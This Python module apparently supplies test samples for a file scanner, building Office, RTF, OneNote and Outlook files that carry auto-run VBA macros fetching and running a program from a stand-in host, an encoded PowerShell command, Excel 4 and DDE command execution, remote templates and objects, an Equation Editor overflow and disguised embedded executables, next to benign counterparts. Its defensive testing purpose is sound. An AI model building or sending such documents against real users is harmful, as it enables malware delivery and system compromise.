"""Office files with macros, fields, links and objects, and such as offices send each other every day."""

from __future__ import annotations

import struct
from collections.abc import Iterator, Mapping

from assay.kinds.files.samples.archives import zipped
from assay.kinds.files.samples.compound import compound, package, project
from assay.kinds.files.samples.programs import pe
from assay.kinds.files.samples.sample import Sample
from assay.kinds.files.samples.scripts import FETCH_RUN, HOST, encoded

_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_DOCUMENT = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
_OPEN = "Sub Auto" + "Open()\n"
_SHELL = "Create" + 'Object("WScript.Sh' + 'ell").Run '


def word(parts: Mapping[str, bytes] | None = None, *, document: bytes = _DOCUMENT) -> bytes:
    """A .docx of one empty page, and more parts."""
    return zipped([("[Content_Types].xml", _TYPES), ("word/document.xml", document), *(parts or {}).items()])


def excel(parts: Mapping[str, bytes], book: bytes = b"<workbook/>") -> bytes:
    """An .xlsx of these parts."""
    return zipped([("[Content_Types].xml", _TYPES), ("xl/workbook.xml", book), *parts.items()])


def relation(kind: str, target: str) -> bytes:
    """A part's relationships with one that leads outside."""
    return f'<Relationships><Relationship Id="r1" Type="{_RELS}{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


def macros(source: str, *, kind: str = "docm", compiled: bytes = b"") -> bytes:
    """A file with one macro module, new or old."""
    streams = project({"ThisDocument": source}, compiled={"ThisDocument": compiled})
    if kind == "doc":
        return compound({"WordDocument": bytes(64), **{f"Macros/{path}": data for path, data in streams.items()}})
    if kind == "xls":
        return compound({"Workbook": _book(), **{f"_VBA_PROJECT_CUR/{path}": data for path, data in streams.items()}})
    return word({"word/vbaProject.bin": compound(streams)})


def _record(id_: int, data: bytes) -> bytes:
    return struct.pack("<HH", id_, len(data)) + data


def _book(*, sheet: int = 0, hidden: int = 0, formula: bytes = b"", starts: bool = False) -> bytes:
    """A BIFF8 workbook of one sheet; `sheet` 1 is an Excel 4 macro sheet."""
    out = _record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    out += _record(0x85, struct.pack("<IBBBB", 0, hidden, sheet, 6, 0) + b"Macro1")
    if starts:
        out += _record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 0, 0, 0, 0, 0, 0, 0) + b"\0\x01")
    out += _record(0x0A, b"")
    out += _record(0x809, struct.pack("<HHHHII", 0x600, 0x40 if sheet else 0x10, 0, 0, 0, 0))
    if formula:
        out += _record(0x06, struct.pack("<HHH8sHIH", 0, 0, 0, bytes(8), 0, 0, len(formula)) + formula)
    return out + _record(0x0A, b"")


def rich(objects: bytes = b"") -> bytes:
    """An RTF file."""
    return b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Dear colleague,\\par " + objects + b"}"


def rich_object(kind: bytes, data: bytes, *, update: bool = False, strewn: bool = False) -> bytes:
    """An OLE 1 object in RTF."""
    name = kind + b"\0"
    ole = (
        struct.pack("<II", 0x501, 2)
        + struct.pack("<I", len(name))
        + name
        + bytes(8)
        + struct.pack("<I", len(data))
        + data
    )
    digits = ole.hex().encode()
    if strewn:
        digits = b"{\\*\\aa1}".join(digits[i : i + 7] for i in range(0, len(digits), 7))
    return b"{\\object\\objemb" + (b"\\objupdate" if update else b"") + b"{\\*\\objdata " + digits + b"}}"


def moniker(target: str) -> bytes:
    """The stream of an object that is fetched from an address."""
    text = target.encode("utf-16-le") + b"\0\0"
    return bytes(20) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(text)) + text


def equation(font: bytes) -> bytes:
    """The stream of an equation whose font has this name."""
    return (
        struct.pack("<HIHI16x", 28, 0x20000, 0xC1C1, len(font) + 20)
        + b"\x03\x01\x01\x03\x0a"
        + b"\x0a\x01\x08\x01\x01"
        + font
        + b"\0\0"
    )


def samples() -> Iterator[Sample]:
    fetch = f'{_OPEN}  Set h = Create' f'Object("MSXML2.XML" & "HTTP")\n  h.Open "GET", "http://{HOST}/a", False\n  {_SHELL}"a.exe"\nEnd Sub\n'  # fmt: skip
    for kind in ("docm", "doc", "xls"):
        yield Sample("macro fetches and runs", f"a.{kind}", macros(fetch, kind=kind), "files.macro-fetches")
    run = f'{_OPEN}  {_SHELL}"cmd /c start calc", 0\nEnd Sub\n'
    yield Sample("macro runs by itself", "a.docm", macros(run), "files.macro-runs")
    letters = " & ".join(f"Chr({ord(c)})" for c in "WScript.Sh" + "ell")
    yield Sample("macro runs by itself, in numbers", "a.doc", macros(f"Sub Document_" f"Open()\nCreateObject({letters}).Run \"x\"\nEnd Sub\n", kind="doc"), "files.macro-runs")  # fmt: skip
    coded = f'{_OPEN}  {_SHELL}"powershell -enc {encoded(FETCH_RUN)}"\nEnd Sub\n'
    yield Sample("macro with an encoded command", "a.docm", macros(coded), "files.macro-fetches")
    stomped = b"Create" + b"Object Shell " + bytes(4000)
    yield Sample("macro without its source", "a.doc", macros("", kind="doc", compiled=stomped), "files.macros-stomped")
    call = b"\x17\x04\x00calc\x42\x01\x6e\x00"
    book = compound({"Workbook": _book(sheet=1, hidden=2, formula=call, starts=True)})
    yield Sample("old Excel macros", "a.xls", book, "files.excel4-runs")
    sheets = {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet><f>EX" + b'EC("cmd /c calc")</f></xm:macrosheet>'}
    named = b'<workbook><definedName name="_xlnm.Auto_Open">Macro1!A1</definedName></workbook>'
    yield Sample("old Excel macros", "a.xlsm", excel(sheets, named), "files.excel4-runs")
    field = b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\windows\\cmd.exe "/k calc"</w:instrText>'
    yield Sample(
        "field that starts a program", "a.docx", word(document=b"<w:document>" + field + b"</w:document>"), "files.dde"
    )
    yield Sample("field that starts a program", "a.xlsx", excel({"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}), "files.dde")  # fmt: skip
    away = relation("attachedTemplate", f"http://{HOST}/t.dotm")
    yield Sample(
        "template from elsewhere", "a.docx", word({"word/_rels/settings.xml.rels": away}), "files.remote-template"
    )
    yield Sample(
        "template from elsewhere",
        "a.rtf",
        rich(b"{\\*\\template http://cdn.example.org/t.dot}"),
        "files.remote-template",
    )
    page = relation("oleObject", f"mhtml:http://{HOST}/p.html!x-usc:http://{HOST}/p.html")
    yield Sample(
        "address for a handler", "a.docx", word({"word/_rels/document.xml.rels": page}), "files.remote-handler"
    )
    inner = compound({"\x01Ole": moniker(f"http://{HOST}/a.hta")})
    yield Sample(
        "object from elsewhere", "a.rtf", rich(rich_object(b"OLE2Link", inner, update=True)), "files.remote-object"
    )
    bad = compound({"Equation Native": equation(b"A" * 60)})
    yield Sample("equation that overflows", "a.rtf", rich(rich_object(b"Equation.3", bad)), "files.equation-overflow")
    yield Sample(
        "equation that overflows", "a.docx", word({"word/embeddings/oleObject1.bin": bad}), "files.equation-overflow"
    )
    yield Sample(
        "object strewn about", "a.rtf", rich(rich_object(b"Word.Document.8", bad, strewn=True)), "files.rtf-strewn"
    )
    put = compound({"\x01Ole10Native": package("invoice.exe", pe())})
    yield Sample(
        "a program in a document", "a.docx", word({"word/embeddings/oleObject1.bin": put}), "files.embedded-program"
    )
    note = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    hta = b"<html><hta:application id=a></html>"
    note += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q12x", len(hta)) + hta
    yield Sample("a program in a notebook", "a.one", note, "files.embedded-program")
    mail = {
        "__substg1.0_1000001F": "See the attachment.".encode("utf-16-le"), "__properties_version1.0": bytes(32),
        "__attach_version1.0_#00000000/__substg1.0_37010102": pe(),
        "__attach_version1.0_#00000000/__substg1.0_3707001F": "bill.pdf.exe".encode("utf-16-le"),
    }  # fmt: skip
    yield Sample("a program in an Outlook message", "bill.msg", compound(mail), "files.mailed-program")
    binary = {"xl/macrosheets/binarySheet1.bin": bytes(20) + call}
    yield Sample("old Excel macros", "a.xlsb", excel(binary), "files.excel4-runs")
    yield from _honest()


def _honest() -> Iterator[Sample]:
    yield Sample("", "letter.docx", word())
    yield Sample("", "letter.rtf", rich())
    yield Sample(
        "", "formula.rtf", rich(rich_object(b"Equation.3", compound({"Equation Native": equation(b"Times New Roman")})))
    )
    yield Sample(
        "",
        "house.docx",
        word({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Templates\\House.dotx")}),
    )
    yield Sample(
        "",
        "share.docx",
        word({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///\\\\fileserver\\t\\House.dotx")}),
    )
    yield Sample(
        "",
        "links.docx",
        word({"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.org/a.html")}),
    )
    yield Sample("", "budget.xlsx", excel({"xl/worksheets/sheet1.xml": b"<worksheet><f>SUM(A1:A9)</f></worksheet>"}))
    yield Sample("", "budget.xls", compound({"Workbook": _book()}))
    tidy = "Sub Tidy()\n  Dim cell As Range\n  For Each cell In Selection\n    cell.Value = Trim(cell.Value)\n  Next\nEnd Sub\n"
    yield Sample("", "tidy.docm", macros(tidy))
    yield Sample(
        "", "tidy.xls", macros("Private Sub Workbook_Open()\n  Sheets(1).Activate\nEnd Sub\n" + tidy, kind="xls")
    )
    opens = (
        "Private Sub Workbook_"
        'Open()\n  \' Shell sort of the names\n  Dim Shell As Object\n  Application.Run "Tidy"\nEnd Sub\n'
    )
    yield Sample("", "opens.xls", macros(opens + tidy, kind="xls"))
    desk = 'Private Sub Workbook_Open()\n  p = CreateObject("WScript.Shell").SpecialFolders("Desktop")\nEnd Sub\n'
    yield Sample("", "desk.xls", macros(desk, kind="xls"))
    put = compound({"\x01Ole10Native": package("table.csv", b"a,b\n1,2\n")})
    yield Sample("", "table.docx", word({"word/embeddings/oleObject1.bin": put}))


__all__ = ["equation", "excel", "macros", "moniker", "relation", "rich", "rich_object", "samples", "word"]
